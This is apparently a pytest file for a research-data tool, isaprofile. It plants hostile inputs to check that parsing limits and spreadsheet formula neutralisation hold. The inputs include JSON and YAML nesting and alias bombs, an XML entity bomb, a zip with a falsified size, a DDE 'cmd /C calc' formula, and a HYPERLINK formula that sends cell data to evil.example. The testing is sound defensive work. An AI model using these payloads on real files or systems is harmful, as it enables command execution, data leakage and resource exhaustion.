"""Hostile inputs are bounded findings (issue 10, items 4 and 5): each test plants one input beyond a limit
and asserts the exact finding code and where it points; outputs cannot be turned against spreadsheets."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from isaprofile.bagit.ziputil import SafeZip, ZipLimits, declared_entries
from isaprofile.findings.issues import Report
from isaprofile.harvest import sheets
from isaprofile.harvest.assemble import _labels
from isaprofile.harvest.config import MAX_YAML_NODES, FileSpec, load_config
from isaprofile.harvest.sheets import SheetError, read_table
from isaprofile.harvest.sidecar import MAX_JSON_DEPTH, MAX_NUMBER_DIGITS, read_sidecar
from isaprofile.isatab import parse
from isaprofile.isatab.parse import MAX_CELL, MAX_COLUMNS, TextFile, neutralise_cell, restore_cell
from isaprofile.isatab.write import write_isatab
from isaprofile.model import Investigation, Study, Subject, Value
from isaprofile.pipeline import check


def _where(found, code):
    hits = [(i.file, i.line, i.column) for i in found if i.code == code]
    assert hits, [i.code for i in found]
    return hits


# ------------------------------------------------------------------ JSON sidecars and labels.json


def test_sidecar_nested_200000_deep_is_json_too_deep(tmp_path: Path) -> None:
    depth = 200_000
    (tmp_path / "x.json").write_text('{"a":' * depth + "1" + "}" * depth)
    values, found = read_sidecar(str(tmp_path / "x.json"), "sub-01/x.json")
    assert values == {}
    assert [(i.code, i.file, i.line, i.column) for i in found] == [
        ("json-too-deep", "sub-01/x.json", 1, 5 * MAX_JSON_DEPTH + 1)  # the 65th '{'
    ]


def test_sidecar_100000_digit_integer_is_json_number_too_long(tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text('{\n  "Modality": "MR",\n  "EchoTime": 1' + "2" * 100_000 + "\n}")
    values, found = read_sidecar(str(tmp_path / "x.json"), "x.json")
    assert values == {}
    assert [(i.code, i.file, i.line, i.column) for i in found] == [("json-number-too-long", "x.json", 3, 15)]


def test_sidecar_long_text_and_ordinary_numbers_pass(tmp_path: Path) -> None:
    text = '{"SeriesDescription": "' + "1" * 5000 + '", "EchoTime": -0.0123e-1, "FlipAngle": [[[90]]]}'
    (tmp_path / "x.json").write_text(text)
    values, found = read_sidecar(str(tmp_path / "x.json"), "x.json")
    assert found == []
    assert values["SeriesDescription"][0] == "1" * 5000 and values["EchoTime"][0] == -0.00123


def test_number_at_the_limit_passes(tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text('{"EchoTime": ' + "1" * MAX_NUMBER_DIGITS + "}")
    values, found = read_sidecar(str(tmp_path / "x.json"), "x.json")
    assert found == [] and values["EchoTime"][0] == int("1" * MAX_NUMBER_DIGITS)


def test_labels_json_nested_deep_and_long_number(tmp_path: Path) -> None:
    spec = FileSpec(index=0, globs=["*.dcm"], labels="labels.json")
    (tmp_path / "labels.json").write_text('{"organs":\n' + "[" * 100_000 + "]" * 100_000 + "}")
    report = Report()
    assert _labels(tmp_path, spec, report) == {}
    assert _where(report.issues, "json-too-deep") == [("labels.json", 2, MAX_JSON_DEPTH)]
    (tmp_path / "labels.json").write_text('{"organs": {"1": ' + "9" * 5000 + "}}")
    report = Report()
    assert _labels(tmp_path, spec, report) == {}
    assert _where(report.issues, "json-number-too-long") == [("labels.json", 1, 18)]


# ------------------------------------------------------------------ isaprofile.yaml


def _bomb(levels: int = 9) -> str:
    lines = ["profile: preclinical-imaging", 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for n in range(1, levels + 1):
        lines.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_yaml_billion_laughs_is_config_too_large(tmp_path: Path) -> None:
    (tmp_path / "isaprofile.yaml").write_text(_bomb())
    config, report = load_config(tmp_path)
    assert config is None
    # 9 + 9*10 + 9*9*10 ... the sixth level (line 7) is the first to pass 100,000 expanded nodes
    assert _where(report.issues, "config-too-large") == [("isaprofile.yaml", 7, None)]
    assert [i.path for i in report.issues] == ["$"]
    assert str(MAX_YAML_NODES) in report.issues[0].message


def test_yaml_self_referring_alias_is_config_too_large(tmp_path: Path) -> None:
    (tmp_path / "isaprofile.yaml").write_text("profile: preclinical-imaging\nsheets: &s\n  - *s\n")
    config, report = load_config(tmp_path)
    assert config is None
    assert _where(report.issues, "config-too-large") == [("isaprofile.yaml", 2, None)]  # the anchored node


def test_yaml_ordinary_aliases_still_work(tmp_path: Path) -> None:
    (tmp_path / "isaprofile.yaml").write_text(
        textwrap.dedent("""\
        profile: preclinical-imaging
        investigation: {identifier: I1, title: T}
        files:
          - glob: &g "ct/*.dcm"
          - glob: *g
            role: segmentation
        """)
    )
    config, report = load_config(tmp_path)
    assert report.valid and config is not None and [f.globs for f in config.files] == [["ct/*.dcm"]] * 2


# ------------------------------------------------------------------ sheets


def _rewrite_part(path: Path, part: str, data: bytes) -> None:
    with zipfile.ZipFile(path) as zf:
        items = [(i, zf.read(i.filename)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, body in items:
            zf.writestr(info.filename, data if info.filename == part else body)


def _workbook(path: Path, rows: list[list[object]]) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Subjects"
    for row in rows:
        ws.append(row)
    wb.save(path)


def test_xlsx_part_unpacking_beyond_the_cap_is_sheet_too_large(tmp_path: Path) -> None:
    book = tmp_path / "s.xlsx"
    _workbook(book, [["Subject ID"], ["S1"]])
    big = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    big += b'<c r="A1" t="inlineStr"><is><t>' + b"A" * (sheets.MAX_PART_BYTES + 1) + b"</t></is></c></row>"
    big += b"</sheetData></worksheet>"
    _rewrite_part(book, "xl/worksheets/sheet1.xml", big)
    assert book.stat().st_size < 1 << 20  # small on disk, huge unpacked
    with pytest.raises(SheetError) as err:
        read_table(book, display="s.xlsx")
    assert (err.value.code, err.value.file) == ("sheet-too-large", "s.xlsx")
    assert "xl/worksheets/sheet1.xml" in err.value.reason


def test_xlsx_entity_bomb_is_sheet_unreadable(tmp_path: Path) -> None:
    book = tmp_path / "s.xlsx"
    _workbook(book, [["Subject ID"], ["S1"]])
    with zipfile.ZipFile(book) as zf:
        original = zf.read("xl/workbook.xml")
    head = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10)
        )
        + b"]>\n"
    )
    body = original.split(b"?>", 1)[-1].replace(b"<sheets>", b"<sheets>&lol9;", 1)
    assert b"&lol9;" in body
    _rewrite_part(book, "xl/workbook.xml", head + body)
    with pytest.raises(SheetError) as err:
        read_table(book, display="s.xlsx")
    assert (err.value.code, err.value.file) == ("sheet-unreadable", "s.xlsx")
    assert err.value.reason == "part xl/workbook.xml declares a DTD (ECMA-376 Part 2, M1.18: an error in a package)"


def test_xlsx_part_unpacking_beyond_its_declared_size_is_sheet_unreadable(tmp_path: Path) -> None:
    """A zip whose directory declares a sheet of 2 kB that unpacks to 4 MB: Python's zipfile stops at the
    declared size and the CRC fails, before calamine (which trusts the deflate stream) sees it."""
    book = tmp_path / "s.xlsx"
    _workbook(book, [["Subject ID"], ["S1"]])
    part = "xl/worksheets/sheet1.xml"
    big = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    big += b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>S%d</t></is></c></row>' % (n, n, n)
                    for n in range(1, 60_000))  # fmt: skip
    big += b"</sheetData></worksheet>"
    _rewrite_part(book, part, big)
    data = bytearray(book.read_bytes())
    with zipfile.ZipFile(book) as zf:
        info = zf.getinfo(part)
    true_size = info.file_size.to_bytes(4, "little")
    assert data.count(true_size) == 2  # the local header and the central directory
    data[:] = data.replace(true_size, (2048).to_bytes(4, "little"))
    book.write_bytes(bytes(data))
    with zipfile.ZipFile(book) as zf:
        assert zf.getinfo(part).file_size == 2048
    with pytest.raises(SheetError) as err:
        read_table(book, display="s.xlsx")
    assert (err.value.code, err.value.reason) == ("sheet-unreadable", "not a readable xlsx workbook (BadZipFile)")


def test_xlsx_without_sheets_is_sheet_unreadable(tmp_path: Path) -> None:
    book = tmp_path / "s.xlsx"
    _workbook(book, [["Subject ID"]])
    with zipfile.ZipFile(book) as zf:
        original = zf.read("xl/workbook.xml")
    start, end = original.index(b"<sheets>"), original.index(b"</sheets>") + len(b"</sheets>")
    _rewrite_part(book, "xl/workbook.xml", original[:start] + b"<sheets/>" + original[end:])
    with pytest.raises(SheetError) as err:
        read_table(book, display="s.xlsx")
    assert (err.value.code, err.value.file, err.value.reason) == (
        "sheet-unreadable",
        "s.xlsx",
        "the workbook has no sheet",
    )


def test_xlsx_cell_cut_to_excels_maximum_is_read_as_empty(tmp_path: Path) -> None:
    book = tmp_path / "s.xlsx"  # openpyxl reads the first 32,767 characters of this cell and drops the rest
    _workbook(book, [["Subject ID", "Notes"], ["S1", "x" * (sheets.MAX_CELL + 1)], ["S2", "y" * 32_766]])
    table = read_table(book, display="s.xlsx")
    rows = list(table.rows())
    assert rows == [(2, ["S1", None]), (3, ["S2", "y" * 32_766])]
    assert [(i.code, i.file, i.line, i.column, i.path) for i in table.findings] == [
        ("sheet-cell-too-large", "s.xlsx", 2, 2, "sheet 'Subjects', column 'Notes'")
    ]


def test_xlsx_cells_keep_their_rows_and_columns_and_read_as_openpyxl_gives_them(tmp_path: Path) -> None:
    """A sheet whose headers start at C3 after empty rows and columns: each cell at its own row and column
    (calamine's rows start at the first column holding data). Whole numbers are ints, dates dates, empty
    cells and a formula without a cached value None."""
    import datetime as dt

    book = tmp_path / "s.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Subjects"
    ws["C3"], ws["D3"], ws["E3"], ws["F3"] = "Subject ID", "Weight", "Date", "Note"
    ws["C4"], ws["D4"], ws["E4"], ws["F4"] = "S1", 42, dt.date(2024, 1, 2), "=1+1"
    ws["C6"], ws["D6"], ws["E6"] = "S2", 22.5, dt.datetime(2024, 1, 2, 9, 30)
    wb.save(book)
    table = read_table(book, display="s.xlsx", header_row=3)
    assert table.headers == ["", "", "Subject ID", "Weight", "Date", "Note"]
    assert list(table.rows()) == [
        (4, [None, None, "S1", 42, dt.date(2024, 1, 2), None]),
        (6, [None, None, "S2", 22.5, dt.datetime(2024, 1, 2, 9, 30), None]),
    ]
    assert type(list(table.rows())[0][1][3]) is int
    assert table.provenance(6, 4).path == "sheet 'Subjects', column 'Weight'"


def test_csv_cell_beyond_a_mebibyte_stops_the_sheet(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_text("Subject ID,Notes\nS1,ok\nS2," + "x" * (sheets.MAX_CELL + 10) + "\nS3,ok\n")
    table = read_table(path, display="s.csv")
    assert list(table.rows()) == [(2, ["S1", "ok"])]
    assert _where(table.findings, "sheet-too-large") == [("s.csv", 3, None)]


def test_csv_with_too_many_columns_is_cut(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    wide = ",".join(["x"] * (sheets.MAX_COLUMNS + 5))
    path.write_text("Subject ID,Notes\n" + wide + "\n")
    table = read_table(path, display="s.csv")
    [(line, cells)] = list(table.rows())
    assert (line, len(cells)) == (2, sheets.MAX_COLUMNS)
    assert _where(table.findings, "sheet-too-large") == [("s.csv", 2, sheets.MAX_COLUMNS + 1)]


def test_csv_line_beyond_the_cap_stops_the_sheet(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_text("Subject ID,Notes\nS1,ok\n" + "x," * (sheets.MAX_LINE // 2 + 1) + "\nS3,ok\n")
    table = read_table(path, display="s.csv")
    assert list(table.rows()) == [(2, ["S1", "ok"])]
    assert _where(table.findings, "sheet-too-large") == [("s.csv", 3, None)]


def test_sheet_row_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_ROWS", 3)
    path = tmp_path / "s.csv"
    path.write_text("Subject ID\n" + "".join(f"S{i}\n" for i in range(10)))
    table = read_table(path, display="s.csv")
    assert [line for line, _ in table.rows()] == [2, 3, 4]
    assert _where(table.findings, "sheet-too-large") == [("s.csv", 5, None)]


# ------------------------------------------------------------------ ISA-Tab


def _isatab(tmp_path: Path) -> Path:
    inv = Investigation(
        identifier="inv",
        title="T",
        studies=[Study(identifier="S1", title="study", subjects=[Subject(id="P1", characteristics={})])],
    )
    write_isatab(inv, tmp_path / "isa", None)
    return tmp_path / "isa"


def test_isatab_cell_of_50_mib_stops_at_that_cell(tmp_path: Path) -> None:
    out = _isatab(tmp_path)
    study = next(out.glob("s_*.txt"))
    with study.open("a") as fh:
        fh.write("P2" + "\t" + "y" * (50 << 20) + "\n")
    report = check(out, None).report
    assert _where(report.issues, "isatab-cell-too-large") == [(study.name, 3, None)]


def test_isatab_with_100000_columns_stops_at_the_header(tmp_path: Path) -> None:
    out = _isatab(tmp_path)
    study = next(out.glob("s_*.txt"))
    study.write_text("\t".join(["Source Name"] + [f"Comment[c{i}]" for i in range(100_000)]) + "\nP1\n")
    report = check(out, None).report
    hits = [i for i in report.issues if i.code == "isatab-too-many-columns"]
    assert [(i.file, i.line, i.column) for i in hits] == [(study.name, 1, MAX_COLUMNS + 1)]
    assert "100001 cells" in hits[0].message


def test_isatab_line_beyond_the_cap_is_not_read_whole(tmp_path: Path) -> None:
    path = tmp_path / "s_x.txt"
    path.write_text("Source Name\tComment[n]\nP1\tok\nP2\t" + "y\t" * (parse.MAX_LINE // 2) + "\n")
    report = Report()
    assert [line for line, _ in TextFile(path, "s_x.txt", report).rows()] == [1, 2]
    assert _where(report.issues, "isatab-cell-too-large") == [("s_x.txt", 3, None)]


def test_isatab_row_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parse, "MAX_ROWS", 3)
    path = tmp_path / "s_x.txt"
    path.write_text("Source Name\n" + "".join(f"P{i}\n" for i in range(10)))
    report = Report()
    assert [line for line, _ in TextFile(path, "s_x.txt", report).rows()] == [1, 2, 3]
    assert _where(report.issues, "isatab-too-many-rows") == [("s_x.txt", 4, None)]


def test_isatab_cell_at_the_limit_is_read(tmp_path: Path) -> None:
    path = tmp_path / "s_x.txt"
    path.write_text("Source Name\tComment[n]\nP1\t" + "z" * MAX_CELL + "\n")
    report = Report()
    rows = list(TextFile(path, "s_x.txt", report).rows())
    assert report.issues == [] and len(rows[1][1][1]) == MAX_CELL


# ------------------------------------------------------------------ zip entry count (verify)


def test_declared_entry_count_is_read_before_the_central_directory(tmp_path: Path) -> None:
    path = tmp_path / "many.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(70_000):  # beyond 65,535: the count lives in the zip64 end record
            zf.writestr(f"bag/data/{i}", b"")
    assert declared_entries(path) == 70_000
    safe = SafeZip(path, ZipLimits(max_entries=69_999))
    assert [(i.code, i.file, i.path) for i in safe.report.issues] == [("zip-bomb", str(path), "")]
    assert "70000 entries" in safe.report.issues[0].message and safe.members == {}
    safe.close()
    assert ZipLimits().max_entries == 200_000


def test_small_zip_within_the_cap_opens(tmp_path: Path) -> None:
    path = tmp_path / "few.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(3):
            zf.writestr(f"bag/{i}.txt", b"x")
    assert declared_entries(path) == 3
    with SafeZip(path, ZipLimits(max_entries=3)) as safe:
        assert safe.report.issues == [] and sorted(safe.members) == ["bag/0.txt", "bag/1.txt", "bag/2.txt"]


# ------------------------------------------------------------------ workers die with their parent

_PARENT = """
import os, sys, time
from isaprofile.engine import map_files
from tests.test_hostile import _sleep_and_report

out = sys.argv[1]
for _ in map_files(_sleep_and_report, [out] * 4, workers=2, chunksize=1):
    pass
"""


def _sleep_and_report(out: str) -> int:
    with open(out, "a") as fh:
        fh.write(f"{os.getpid()}\n")
    time.sleep(600)
    return 0


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:  # a zombie waiting for its reaper counts as gone
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split(") ", 1)[1][0] != "Z"
    except FileNotFoundError:
        return False


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_workers_die_when_their_parent_is_killed(tmp_path: Path) -> None:
    out = tmp_path / "pids"
    env = {**os.environ, "PYTHONPATH": os.getcwd()}
    parent = subprocess.Popen([sys.executable, "-c", _PARENT, str(out)], env=env)
    try:
        for _ in range(600):  # both workers started (each wrote its pid)
            if out.exists() and len(out.read_text().split()) >= 2:
                break
            time.sleep(0.05)
        pids = [int(p) for p in out.read_text().split()]
        assert len(pids) == 2 and all(_alive(p) for p in pids)
    finally:
        parent.send_signal(signal.SIGKILL)
        parent.wait()
    for _ in range(200):  # the kernel delivers SIGKILL to each worker as its parent exits
        if not any(_alive(p) for p in pids):
            break
        time.sleep(0.05)
    assert [p for p in pids if _alive(p)] == []


# ------------------------------------------------------------------ formula neutralisation


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=already", "''=already"),
        ("''", "'''"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("-", "'-"),
        ("a=b", "a=b"),
        ("'plain", "'plain"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell: str, written: str) -> None:
    assert neutralise_cell(cell) == written
    assert restore_cell(written) == cell


@given(st.text(max_size=12))
def test_neutralise_round_trips_and_never_starts_a_formula(cell: str) -> None:
    written = neutralise_cell(cell)
    assert restore_cell(written) == cell
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r") or parse._NUMBER.match(written)


def test_formula_cells_are_neutralised_in_isatab_and_read_back(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    subj = Subject(id="P1", characteristics={"strain": Value("@SUM(1+1)")}, comments={"note": Value(evil)})
    inv = Investigation(
        identifier="inv", title="+1+cmd|' /C calc'!A0", studies=[Study(identifier="S1", title="study", subjects=[subj])]
    )
    write_isatab(inv, tmp_path / "isa", None)
    text = "".join(p.read_text() for p in (tmp_path / "isa").glob("*.txt"))
    cells = [c.strip('"') for line in text.splitlines() for c in line.split("\t")]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert "'@SUM(1+1)" in cells and "'+1+cmd|' /C calc'!A0" in cells
    back = check(tmp_path / "isa", None).investigation
    assert back.title == inv.title
    assert back.studies[0].subjects == [subj]


# ------------------------------------------------------------------ RO-Crate contexts per version

_WORKFLOW = {
    "@graph": [
        {"@id": "ro-crate-metadata.json", "@type": "CreativeWork", "about": {"@id": "./"}},
        {"@id": "./", "@type": "Dataset", "mainEntity": {"@id": "wf.cwl"}},
        {
            "@id": "wf.cwl",
            "@type": ["File", "SoftwareSourceCode", "ComputationalWorkflow"],
            "input": {"@id": "#in"},
            "output": {"@id": "#out"},
        },
        {"@id": "#in", "@type": "FormalParameter", "name": "x"},
        {"@id": "#out", "@type": "FormalParameter", "name": "y"},
    ]
}


@pytest.mark.parametrize(
    ("version", "workflow", "parameter", "input_iri", "output_iri"),
    [
        (
            "1.1",
            "https://bioschemas.org/ComputationalWorkflow",
            "https://bioschemas.org/FormalParameter",
            "https://bioschemas.org/ComputationalWorkflow#input",
            "https://bioschemas.org/ComputationalWorkflow#output",
        ),
        (
            "1.2",
            "https://bioschemas.org/ComputationalWorkflow",
            "https://bioschemas.org/FormalParameter",
            "https://bioschemas.org/properties/input",
            "https://bioschemas.org/properties/output",
        ),
        (
            "1.3",
            "https://bioschemas.org/terms/ComputationalWorkflow",
            "https://bioschemas.org/terms/FormalParameter",
            "https://bioschemas.org/terms/input",
            "https://bioschemas.org/terms/output",
        ),
    ],
)
def test_each_rocrate_version_is_read_with_its_own_context(version, workflow, parameter, input_iri, output_iri):
    from rdflib import RDF

    from isaprofile.linked.context import load_context, to_graph

    url = f"https://w3id.org/ro/crate/{version}/context"
    ctx = load_context(url)
    assert ctx is not None and ctx["File"] == "http://schema.org/MediaObject"
    graph, report = to_graph({"@context": url, **_WORKFLOW}, "ro-crate-metadata.json")
    assert report.issues == [] and graph is not None
    types = {str(o) for o in graph.objects(None, RDF.type)}
    assert {workflow, parameter} <= types
    preds = {str(p) for p in graph.predicates()}
    assert {input_iri, output_iri} <= preds
